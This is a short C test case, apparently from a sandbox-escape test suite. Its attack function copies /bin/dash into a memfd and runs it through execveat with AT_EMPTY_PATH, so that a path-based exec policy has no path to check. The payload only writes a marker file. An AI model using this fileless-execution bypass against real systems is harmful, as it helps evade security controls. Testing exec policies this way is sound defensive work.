/* E01: copy a shell into a memfd and execveat(fd, "", AT_EMPTY_PATH): a
 * program with no path for an exec policy to judge. The shell would create
 * the workdir marker. */
#include "escape.h"
#include <sys/mman.h>
#include <sys/stat.h>

int attack(int argc, char **argv)
{
	char *const av[] = { "sh", "-c", "echo won > marker", NULL };
	char *const env[] = { NULL };
	int m = memfd_create("payload", 0);

	(void)argc;
	(void)argv;
	copy_into(m, "/bin/dash");
	result(syscall(SYS_execveat, m, "", av, env, AT_EMPTY_PATH));
	say("AFTER");
	return 0;
}
